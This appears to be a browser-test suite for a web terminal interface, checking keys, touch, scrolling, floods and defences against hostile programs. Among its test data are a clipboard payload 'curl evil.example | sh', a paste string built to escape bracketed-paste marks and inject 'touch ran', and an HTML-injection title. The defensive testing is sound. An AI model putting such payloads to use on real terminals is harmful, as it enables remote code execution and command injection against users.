"""The terminal: typing, keys, touch, floods, and what a hostile program tries."""

import time
import unittest

import server
from browser import DESKTOP, PATIENCE, PHONE, Browser
from states.terminal import LIST, SESSION, ready

SHELL = "[...fake.shells.values()].at(-1)"
TEXT = "document.querySelector('.terminal-view:not([hidden]) .xterm-rows').innerText"
FIRST_LINE = f"Number({TEXT}.match(/line (\\d+)/)[1])"


class TerminalTests(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.site = server.start(max_age=3600)
        cls.browser = cls.enterClassContext(Browser())

    def open(self, size=DESKTOP, hash=SESSION, **options):
        page = self.browser.page(self.site.url, hash, size=size, **options)
        self.addCleanup(self.browser.give_back, page)
        if "session=" in hash:
            ready(page)
        return page

    def typed(self, page):
        return page.evaluate(f"{SHELL}.typed.join('')")

    def until(self, page, script, seconds=PATIENCE):
        end = time.monotonic() + seconds
        while not page.evaluate(script):
            self.assertLess(time.monotonic(), end, f"never true: {script}")
            page.wait_for_timeout(20)

    def run_line(self, page, line):
        page.evaluate("(line) => { " + SHELL + ".write(line + '\\r'); }", line)

    def test_types_and_shows_what_comes_back(self):
        page = self.open()
        page.keyboard.type("ls")
        page.keyboard.press("Enter")
        self.until(page, f"{TEXT}.match(/README.md/g)?.length === 2")
        self.assertEqual(self.typed(page), "ls\r")

    def test_the_screen_stays_on_while_a_terminal_is_looked_at(self):
        page = self.open(hash=LIST, is_alone=True)
        page.evaluate("""() => {
            window.locks = new Set();
            WakeLock.prototype.request = async () => { const lock = { release: async () => { locks.delete(lock); } }; locks.add(lock); return lock; };
        }""")
        shown, asked = f"location.hash = '{SESSION}'", "locks.size"
        page.evaluate(shown)
        self.until(page, f"{asked} === 1")
        page.evaluate(f"location.hash = '{LIST}'")
        self.until(page, f"{asked} === 0")
        page.evaluate(shown)
        self.until(page, f"{asked} === 1")
        for item, count in (("Let the screen turn off", 0), ("Keep the screen on", 1)):
            page.click("[aria-label='More for this terminal']")
            page.click(f"[role=menuitem]:has-text('{item}')")
            self.until(page, f"{asked} === {count}")
        page.evaluate("location.hash = '#/computers'")
        self.until(page, f"{asked} === 0")

    def test_starts_one_and_lists_it(self):
        page = self.open(hash=LIST)
        page.click(".terminal-new .icon-button")
        self.until(page, "document.querySelectorAll('.terminal-shells button').length === 2")
        self.assertEqual(page.locator(".terminal-shells button").all_inner_texts(), ["bash", "zsh"], "those that the computer has")
        page.fill("dialog input >> nth=0", "zsh")
        page.click("dialog .button.primary")
        page.wait_for_selector(".terminal-tab[aria-current]:has-text('zsh')")
        self.assertIn("session=s-new1", page.url)
        self.until(page, f"{TEXT}.includes('$')")
        page.keyboard.type("x")
        self.until(page, f"{SHELL}.typed.join('') === 'x'")

    def test_a_press_starts_the_login_shell_and_one_that_lasts_asks(self):
        page = self.open(hash=LIST)
        rows = page.locator(".terminal-list .row-words").all_inner_texts()
        self.assertIn("htop", rows[0])
        self.assertIn("/var/log", rows[0], "where the program works, and not where the shell began")
        self.assertIn("[3/9] main.o⟨202E⟩", rows[1], "a build is seen to go on, and what turns text round is seen, too")
        page.dispatch_event(".terminal-new .button", "contextmenu", {"clientX": 5, "clientY": 5})
        page.wait_for_selector("dialog[open] input")
        page.keyboard.press("Escape")
        page.focus(".terminal-new .button")
        page.keyboard.press("Enter")
        page.wait_for_selector(".terminal-tab[aria-current]")
        self.assertIn("session=s-new1", page.url)
        self.assertEqual(page.locator("dialog[open]").count(), 0)

    def test_every_key_is_in_sight_on_the_narrowest_phone_and_one_that_lies(self):
        for size, rows in (((320, 568), 2), ((568, 320), 1)):
            page = self.open(size=size)
            keys = page.evaluate("[...document.querySelectorAll('.key-grid:not([hidden]) .key')].map((key) => key.getBoundingClientRect()).map(({ left, right, top }) => [left, right, top])")
            self.assertEqual(len(keys), 14)
            self.assertTrue(all(left >= 0 and right <= size[0] for left, right, _ in keys), keys)
            self.assertEqual(len({top for *_, top in keys}), rows)
            page.click(".key[aria-expanded]")
            page.click(".F10-key")
            self.until(page, f"{SHELL}.typed.join('').endsWith('\\x1b[21~')")

    def test_words_are_found_in_what_scrolled_by(self):
        page = self.open()
        self.run_line(page, "count 200")
        self.until(page, f"{TEXT}.includes('line 200')")
        page.click(".terminal-head [aria-haspopup=menu] >> nth=-1")
        page.get_by_role("menuitem", name="Find in this terminal").click()
        selected = "document.querySelector('.terminal-view:not([hidden]) .xterm-selection')?.childElementCount"
        page.fill(".terminal-find input", "LINE 17")
        self.until(page, f"{selected} > 0 && {TEXT}.includes('line 17') && document.querySelector('.terminal-view:not([hidden]) .xterm-rows').textContent.includes('line 179')")
        for _ in range(10):
            page.keyboard.press("Enter")
        self.until(page, "!document.querySelector('.terminal-view:not([hidden]) .xterm-rows').textContent.includes('line 179')")
        page.fill(".terminal-find input", "nowhere")
        page.wait_for_selector(".terminal-find .failed")
        page.keyboard.press("Escape")
        self.assertEqual(page.locator(".terminal-find").count(), 0)

    def test_refusals_are_said_in_the_persons_language(self):
        page = self.open(hash=LIST, lang="zh", scenario="many-terminals")
        page.click(".terminal-new .icon-button")
        page.fill("dialog input >> nth=0", "nope")
        page.click("dialog .button.primary")
        page.wait_for_selector("dialog .failed:has-text('电脑不允许使用这个 shell')")
        page.fill("dialog input >> nth=0", "")
        page.fill("dialog input >> nth=1", "/nope")
        page.click("dialog .button.primary")
        page.wait_for_selector("dialog .failed:has-text('电脑上没有这个文件夹')")
        page.fill("dialog input >> nth=1", "")
        page.click("dialog .button.primary")
        page.wait_for_selector("dialog .banner:has-text('运行中的终端过多')")
        self.assertEqual(page.locator("dialog .banner-detail").count(), 0, "the program's English sentence says the same")

    def test_closing_one_that_ended_meanwhile_is_done(self):
        page = self.open()
        page.evaluate("fake.remote('terminal.close', () => fake.fail('bad-request', 'x', { reason: 'session_not_found', values: {} }))")
        page.click(".terminal-head [aria-haspopup=menu] >> nth=-1")
        page.click(".menu-item.danger")
        page.click("dialog .button.danger")
        page.wait_for_selector(".terminal-list")

    def test_switching_keeps_each_as_it_is(self):
        page = self.open()
        self.run_line(page, "count 3")
        page.click(".terminal-tab:has-text('htop')")
        self.until(page, "document.querySelectorAll('.terminal-view').length === 2")
        page.click(".terminal-tab:has-text('bash')")
        self.until(page, f"{TEXT}.includes('line 3')")
        self.assertEqual(page.evaluate("fake.shells.size"), 2, "it was not opened anew")

    def test_questions_of_the_past_are_not_answered(self):
        page = self.open(scenario="asking")
        page.wait_for_timeout(200)
        self.assertEqual(self.typed(page), "")
        self.assertEqual(page.locator(".terminal-strips .banner").count(), 0)
        self.run_line(page, "ask")
        self.until(page, f"{SHELL}.typed.join('').includes('\\x1b[?')")

    def test_a_flood_does_not_freeze_and_control_c_ends_it_at_once(self):
        page = self.open()
        page.evaluate("""() => {
            window.turns = 0;
            const turn = () => { window.turns += 1; setTimeout(turn, 5); };
            turn();
        }""")
        self.run_line(page, "flood 100")
        page.wait_for_timeout(1500)
        ahead = page.evaluate(f"{SHELL}.sent - {SHELL}.taken")
        self.assertLess(ahead, 700_000, "what is sent ahead is bounded")
        self.assertGreater(page.evaluate("turns"), 8, "the page was stuck")
        page.evaluate(f"""() => {{
            window.sentAtPress = null;
            document.addEventListener('keydown', () => {{ window.sentAtPress = {SHELL}.sent; }}, {{ capture: true, once: true }});
        }}""")
        page.keyboard.press("Control+c")
        self.until(page, f"{TEXT}.includes('stopped')")
        late, left = page.evaluate(f"[{SHELL}.sentAtInterrupt - sentAtPress, 100_000_000 - sentAtPress]")
        # A busy machine brings the key a moment late, in which some windows of output pass; waiting for the output would be all that is left.
        self.assertLess(late * 8, left, "Ctrl-C does not wait for the output")

    def test_a_hundred_megabytes_come_to_their_end(self):
        page = self.open()
        started = time.monotonic()
        self.run_line(page, "flood 100")
        self.until(page, f"{TEXT}.includes('done')", seconds=60)
        print(f"\n100 MB in {time.monotonic() - started:.1f} s", flush=True)

    def test_keys_of_the_row(self):
        page = self.open(size=PHONE)
        for name in ("escape", "tab", "backtab", "interrupt", "up", "left"):
            page.tap(f".{name}-key")
        self.assertEqual(self.typed(page), "\x1b\t\x1b[Z\x03\x1b[A\x1b[D")

    def test_arrows_follow_the_cursor_key_mode(self):
        page = self.open(size=PHONE)
        self.run_line(page, "cursor")
        self.until(page, f"{TEXT}.includes('the program')")
        page.evaluate(f"{SHELL}.typed.length = 0")
        page.tap(".up-key")
        self.assertEqual(self.typed(page), "\x1bOA")

    def test_control_is_armed_for_one_key_and_held_for_more(self):
        page = self.open(size=PHONE)
        page.tap(".terminal-stage")
        page.tap(".ctrl-key")
        self.assertEqual(page.get_attribute(".ctrl-key", "aria-pressed"), "true")
        page.keyboard.type("dd")
        self.assertEqual(self.typed(page), "\x04d")
        page.evaluate(f"{SHELL}.typed.length = 0")
        key = page.locator(".ctrl-key").bounding_box()
        page.mouse.move(key["x"] + 20, key["y"] + 20)
        page.mouse.down()
        page.wait_for_timeout(500)
        page.mouse.up()
        page.keyboard.type("ab")
        page.tap(".left-key")
        self.assertEqual(self.typed(page), "\x01\x02\x1b[1;5D")
        page.tap(".ctrl-key")
        page.keyboard.type("a")
        self.assertTrue(self.typed(page).endswith("Da"))

    def test_keys_leave_the_focus_where_it_is(self):
        page = self.open(size=PHONE)
        page.tap(".terminal-stage")
        page.tap(".tab-key")
        self.assertTrue(page.evaluate("document.activeElement.classList.contains('xterm-helper-textarea')"))

    def test_a_line_is_written_and_sent(self):
        page = self.open(size=PHONE)
        page.tap(".compose-key")
        self.assertTrue(page.evaluate("document.activeElement.matches('.compose-text')"))
        page.keyboard.insert_text("echo 你好")
        page.keyboard.press("Enter")
        self.assertEqual(self.typed(page), "echo 你好\r")
        self.assertEqual(page.input_value(".compose-text"), "")

    def test_scrolls_by_finger_and_goes_on_after_a_fling(self):
        page = self.open(size=PHONE)
        self.run_line(page, "count 800")
        self.until(page, f"{TEXT}.includes('line 800')")
        touch = page.context.new_cdp_session(page)

        def send(kind, points):
            touch.send("Input.dispatchTouchEvent", {"type": kind, "touchPoints": points})

        # Read in the page: a fling can be over before it is asked from here. The last move of the finger, three lines at most, may be drawn later.
        page.evaluate(f"addEventListener('touchend', () => {{ window.lifted = {FIRST_LINE}; }}, true)")
        send("touchStart", [{"x": 200, "y": 300}])
        for y in range(320, 600, 40):
            send("touchMove", [{"x": 200, "y": y}])
        send("touchEnd", [])
        self.until(page, f"{FIRST_LINE} < lifted - 4")

    def test_stays_at_its_end_but_where_the_person_scrolls(self):
        page = self.open()
        self.run_line(page, "count 800")
        self.until(page, f"{TEXT}.includes('line 800')")
        last = page.evaluate(FIRST_LINE)
        self.scrolled_late(page)
        self.until(page, f"{FIRST_LINE} === {last}")
        page.hover(".xterm-screen")
        page.mouse.wheel(0, -90)
        self.until(page, f"{FIRST_LINE} < {last}")
        self.scrolled_late(page)
        self.until(page, f"{FIRST_LINE} < {last - 5}")
        page.mouse.wheel(0, 900)
        self.until(page, f"{FIRST_LINE} === {last}")
        self.scrolled_late(page)
        self.until(page, f"{FIRST_LINE} === {last}")

    def scrolled_late(self, page):
        """As a browser does it that tells late of what xterm.js scrolled."""
        page.evaluate("""new Promise((done) => {
            const viewport = document.querySelector('.xterm-viewport');
            viewport.addEventListener('scroll', done, { once: true });
            viewport.scrollTop -= 90;
        })""")

    def test_selects_a_word_by_a_long_press_and_copies_it(self):
        page = self.open(size=PHONE, permissions=["clipboard-read", "clipboard-write"])
        point = page.evaluate("""() => {
            const span = [...document.querySelectorAll('.xterm-rows span')].find((each) => each.textContent.includes('README.md'));
            const box = span.getBoundingClientRect();
            const column = span.textContent.indexOf('README') + 2.5;
            return { x: box.left + column * box.width / span.textContent.length, y: box.top + box.height / 2 };
        }""")
        self.long_press(page, point)
        page.tap(".terminal-selection-menu button >> nth=0")
        page.wait_for_timeout(100)
        self.assertEqual(page.evaluate("navigator.clipboard.readText()"), "README.md")

    def test_asks_before_lines_are_pasted_that_would_run(self):
        page = self.open(permissions=["clipboard-read", "clipboard-write"])
        page.evaluate("navigator.clipboard.writeText('one\\ntwo\\n')")
        page.click(".terminal-head [aria-haspopup=menu] >> nth=-1")
        page.click(".menu-item >> nth=1")
        page.wait_for_selector("dialog:has-text('Paste 2 lines?')")
        self.assertEqual(self.typed(page), "")
        page.click("dialog .button.primary")
        self.until(page, f"{SHELL}.typed.join('').includes('one\\rtwo')")

    # What a web page may have put on the clipboard: the end of a marked paste in each spelling, split and nested, and a Return behind it.
    HOSTILE = "echo safe\x1b[201~\rtouch ran\r\x9b201~\x1b\x1b[201~[201~\x03\x7f\u0085\ttab"
    HARMLESS = "echo safe␛[201~\rtouch ran\r⟨9B⟩201~␛␛[201~[201~␃␡⟨85⟩\ttab"

    def paste_by_browser(self, page, text, into=".xterm-helper-textarea"):
        page.evaluate(
            """([text, into]) => {
                const data = new DataTransfer();
                data.setData('text/plain', text);
                document.querySelector(`.terminal-view:not([hidden]) ${into}`).dispatchEvent(
                    new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
            }""",
            [text, into],
        )

    def test_no_paste_can_end_its_own_marks(self):
        for marks in (True, False):
            for way in ("key", "browser", "textarea", "line", "keyboard"):
                with self.subTest(marks=marks, way=way):
                    page = self.open(size=PHONE, permissions=["clipboard-read", "clipboard-write"])
                    if marks:
                        self.run_line(page, "marked")
                        self.until(page, f"{TEXT}.includes('marks a paste')")
                        page.evaluate(f"{SHELL}.typed.length = 0")
                    if way == "key":
                        page.evaluate("(text) => navigator.clipboard.writeText(text)", self.HOSTILE)
                        page.tap(".paste-key")
                    elif way == "line":
                        page.tap(".compose-key")
                        page.evaluate("(text) => { document.querySelector('.compose-text').value = text; }", self.HOSTILE)
                        page.tap(".compose button >> nth=0")
                    elif way == "keyboard":
                        page.tap(".terminal-stage")
                        page.evaluate(
                            """(text) => document.activeElement.dispatchEvent(
                                new InputEvent('beforeinput', { data: text, inputType: 'insertText', bubbles: true, cancelable: true }))""",
                            self.HOSTILE,
                        )
                    else:
                        self.paste_by_browser(page, self.HOSTILE, ".xterm" if way == "browser" else ".xterm-helper-textarea")
                    page.wait_for_selector("dialog:has-text('Control characters are in it')")
                    self.assertEqual(self.typed(page), "", "nothing is typed before it is meant")
                    page.click("dialog .button.primary")
                    # A text area has line feeds only.
                    wanted = self.HARMLESS
                    wanted = f"\x1b[200~{wanted}\x1b[201~" if marks else wanted
                    self.until(page, f"{SHELL}.typed.length > 0")
                    self.assertEqual(self.typed(page), wanted)

    def test_one_line_is_pasted_at_once_and_not_by_a_modifier_that_is_armed(self):
        page = self.open(size=PHONE)
        page.tap(".ctrl-key")
        self.paste_by_browser(page, "c")
        self.paste_by_browser(page, "d\x1b[A")
        self.until(page, f"{SHELL}.typed.length === 2")
        self.assertEqual(self.typed(page), "cd␛[A")

    def test_what_was_not_pasted_stays_in_the_line(self):
        page = self.open(size=PHONE)
        page.tap(".compose-key")
        page.evaluate("document.querySelector('.compose-text').value = 'one\x1b\\ntwo'")
        page.tap(".compose button >> nth=1")
        page.click("dialog button:has-text('Cancel')")
        self.until(page, "document.querySelector('.compose-text').value === 'one\x1b\\ntwo'")
        self.assertEqual(self.typed(page), "")

    def test_letters_are_as_wide_as_the_computer_says(self):
        page = self.open()
        widths = page.evaluate(
            """async () => {
                const { columns } = await import('/features/terminal/letters.js');
                return ['🤖', '✅', '⚡', '漢', 'é', '\u0301', '\u200d', '\ufe0f', '🫨', '\u1161', '\u00ad', '🇩', '\U000e0100', '\U00020000', '─']
                    .map((letter) => columns(letter.codePointAt(0)));
            }"""
        )
        # 🫨 came with Unicode 15.
        self.assertEqual(widths, [2, 2, 2, 2, 1, 0, 0, 0, 2, 0, 1, 1, 0, 2, 1])
        self.run_line(page, "wide")
        cells = "[...document.querySelectorAll('.xterm-rows > div')].find((row) => row.textContent.includes('wide:'))"
        self.until(page, cells)
        # Where the sign behind them stands says how wide they were drawn.
        column = page.evaluate(f"""() => {{
            const row = {cells};
            const [box, text] = [row.getBoundingClientRect(), [...row.querySelectorAll('span')].find((span) => span.textContent.includes('|'))];
            const range = document.createRange();
            const node = [...text.childNodes].find((each) => each.textContent.includes('|'));
            range.setStart(node, node.textContent.indexOf('|'));
            range.setEnd(node, node.textContent.indexOf('|') + 1);
            return Math.round((range.getBoundingClientRect().left - box.left) / range.getBoundingClientRect().width);
        }}""")
        self.assertEqual(column, len("wide:") + 2 + 2 + 2 + 1)

    def test_option_writes_what_a_macs_layout_has_there(self):
        mac = "Object.defineProperty(navigator, 'platform', { get: () => 'MacIntel' });"
        page = self.browser.blank()
        self.addCleanup(page.context.close)
        page.add_init_script(mac)
        self.browser.show(page, self.site.url, SESSION)
        ready(page)

        def press(key, code, number):
            page.evaluate(
                """([key, code, number]) => {
                    const at = document.querySelector('.xterm-helper-textarea');
                    const event = { key, code, keyCode: number, which: number, altKey: true, bubbles: true, cancelable: true };
                    const sign = key.charCodeAt(0);
                    if (at.dispatchEvent(new KeyboardEvent('keydown', event)) && key.length === 1) {
                        at.dispatchEvent(new KeyboardEvent('keypress', { ...event, keyCode: sign, which: sign, charCode: sign }));
                    }
                }""",
                [key, code, number],
            )

        press("@", "KeyL", 76)
        press("ArrowLeft", "ArrowLeft", 37)
        self.assertEqual(self.typed(page), "@\x1bb", "a letter, and a word to the left")
        page.evaluate(f"{SHELL}.typed.length = 0")
        page.click(".terminal-head [aria-haspopup=menu] >> nth=-1")
        page.click(".menu-item:has-text('Use Option as Meta')")
        press("@", "KeyL", 76)
        self.assertEqual(self.typed(page), "\x1bl")

    def test_another_windows_size_is_drawn_until_somebody_looks_here(self):
        page = self.open(size=PHONE)
        own = page.evaluate(f"{SHELL}.sizes.at(-1)")
        screen = "document.querySelector('.terminal-view:not([hidden]) .xterm-screen').getBoundingClientRect()"
        rows = "document.querySelectorAll('.terminal-view:not([hidden]) .xterm-rows > div').length"
        page.evaluate(f"{SHELL}.tell('size', {{ cols: 160, rows: 45 }})")
        page.wait_for_selector(".terminal-strips .banner:has-text('Another window has this terminal at 160 × 45.')")
        self.until(page, f"{rows} === 45")
        stage = page.locator(".terminal-stage").bounding_box()
        self.assertLessEqual(page.evaluate(f"{screen}.width"), stage["width"], "all of its columns are in sight")
        self.assertLessEqual(page.evaluate(f"{screen}.height"), stage["height"])
        self.assertEqual(page.evaluate(f"{SHELL}.sizes.length"), 1, "drawing it asks for nothing")
        page.evaluate(f"{SHELL}.tell('size', {{ cols: 24, rows: 10 }})")
        self.until(page, f"{rows} === 10")
        page.touchscreen.tap(stage["x"] + 40, stage["y"] + stage["height"] - 40)
        self.until(page, f"{SHELL}.sizes.length === 2")
        self.assertEqual(page.evaluate(f"{SHELL}.sizes.at(-1)"), own)
        self.until(page, f"{rows} === {own[1]}")
        self.assertEqual(page.locator(".terminal-strips .banner").count(), 0)

    def test_the_selections_bar_is_whole_and_beside_the_selection(self):
        for size in (PHONE, (320, 568)):
            for lang in ("en", "zh"):
                page = self.open(size=size, lang=lang)
                self.run_line(page, "count 300")
                self.until(page, f"{TEXT}.includes('line 300')")
                rows = page.locator(".xterm-rows > div")
                for row in (0, 1, 9, rows.count() - 1):
                    with self.subTest(size=size, lang=lang, row=row):
                        box = page.locator(".xterm-rows > div").nth(row).bounding_box()
                        self.long_press(page, {"x": box["x"] + 6, "y": box["y"] + box["height"] / 2})
                        bar = page.locator(".terminal-selection-menu").bounding_box()
                        self.assertGreaterEqual(bar["x"], 0)
                        self.assertLessEqual(bar["x"] + bar["width"], size[0])
                        self.assertLess(bar["height"], 60, "a word of the bar is broken")
                        self.assertFalse(bar["y"] < box["y"] + box["height"] and box["y"] < bar["y"] + bar["height"], "it covers the selection")
                        knob = page.evaluate("""() => {
                            const handle = document.querySelector('.terminal-handle.first');
                            return handle.getBoundingClientRect().left + parseFloat(getComputedStyle(handle, '::before').left);
                        }""")
                        self.assertGreaterEqual(knob, page.locator(".terminal-stage").bounding_box()["x"], "the left handle is cut")
                page.context.close()

    def long_press(self, page, point):
        touch = page.context.new_cdp_session(page)
        touch.send("Input.dispatchTouchEvent", {"type": "touchStart", "touchPoints": [point]})
        page.wait_for_timeout(600)
        touch.send("Input.dispatchTouchEvent", {"type": "touchEnd", "touchPoints": []})
        page.wait_for_selector(".terminal-selection-menu:visible")

    def test_the_clipboard_is_set_only_when_a_person_says_so(self):
        page = self.open(permissions=["clipboard-read", "clipboard-write"])
        page.evaluate("navigator.clipboard.writeText('before')")
        self.run_line(page, "osc52")
        page.wait_for_selector(".terminal-strips .banner")
        self.assertEqual(page.evaluate("navigator.clipboard.readText()"), "before")
        self.assertNotIn("]52;", self.typed(page), "what is on the clipboard is not told")
        page.click(".terminal-strips button:has-text('Copy')")
        page.wait_for_timeout(100)
        self.assertEqual(page.evaluate("navigator.clipboard.readText()"), "curl evil.example | sh")

    def test_titles_are_text_and_links_ask(self):
        page = self.open()
        opened = []
        page.context.on("page", lambda other: opened.append(other.url))
        page.on("dialog", lambda asked: self.fail(f"a dialog of the browser: {asked.message}"))
        self.run_line(page, "evil")
        page.wait_for_selector(".terminal-tab[aria-current]:has-text('<img src=x')")
        self.assertEqual(page.locator(".terminal-head img").count(), 0)
        self.assertIn("⟨202E⟩", page.inner_text(".terminal-tab[aria-current]"))
        row = page.locator(".xterm-rows > div", has_text="https://example.net").bounding_box()
        width = page.evaluate("document.querySelector('.xterm-screen').getBoundingClientRect().width")
        cols = page.evaluate("fake.shells.values().next().value.sizes.at(-1)[0]")
        for column, title in ((2, None), (8, "https://example.org/a"), (16, "https://example.net/plain")):
            page.mouse.move(row["x"] + (column + 0.5) * width / cols, row["y"] + 6)
            page.wait_for_timeout(150)
            page.mouse.down()
            page.mouse.up()
            page.wait_for_timeout(200)
            shown = page.inner_text("dialog[open]") if page.locator("dialog[open]").count() else None
            if title is None:
                self.assertIsNone(shown, "an address that is no web address does nothing")
            else:
                self.assertIn(title, shown)
                page.keyboard.press("Escape")
                page.wait_for_timeout(100)
        self.assertEqual(opened, [])

    def test_goes_on_when_the_line_is_back(self):
        page = self.open()
        self.run_line(page, "lose")
        page.wait_for_selector(".terminal-strips .banner")
        page.evaluate("() => { window.first = fake.shells.get('s-4f2a91c0'); }")
        page.evaluate("fake.setPath('9f0c6a1be2d34775a1c0ffee00d15ea5', 'relay')")
        self.until(page, "fake.shells.get('s-4f2a91c0') !== window.first")
        self.until(page, "document.querySelectorAll('.terminal-strips .banner').length === 0")

    def test_closing_asks_and_goes_back(self):
        page = self.open()
        page.click(".terminal-head [aria-haspopup=menu] >> nth=-1")
        page.click(".menu-item.danger")
        page.click("dialog .button.danger")
        page.wait_for_selector(".terminal-list")
        self.assertIn("terminal.close", page.evaluate("fake.calls.map((call) => call.method)"))

    def test_the_keyboard_gets_out(self):
        page = self.open()
        page.keyboard.press("Tab")
        self.assertEqual(self.typed(page), "\t")
        page.keyboard.press("Shift+Escape")
        self.assertEqual(page.evaluate("document.activeElement.getAttribute('aria-label')"), "All terminals")

    def test_says_when_it_is_not_installed(self):
        page = self.browser.blank()
        self.addCleanup(page.context.close)
        page.route("**/assets/xterm.js", lambda route: route.fulfill(status=404, body=""))
        self.browser.show(page, self.site.url, LIST)
        page.wait_for_selector("code:has-text('bin/page-assets')")


if __name__ == "__main__":
    unittest.main()
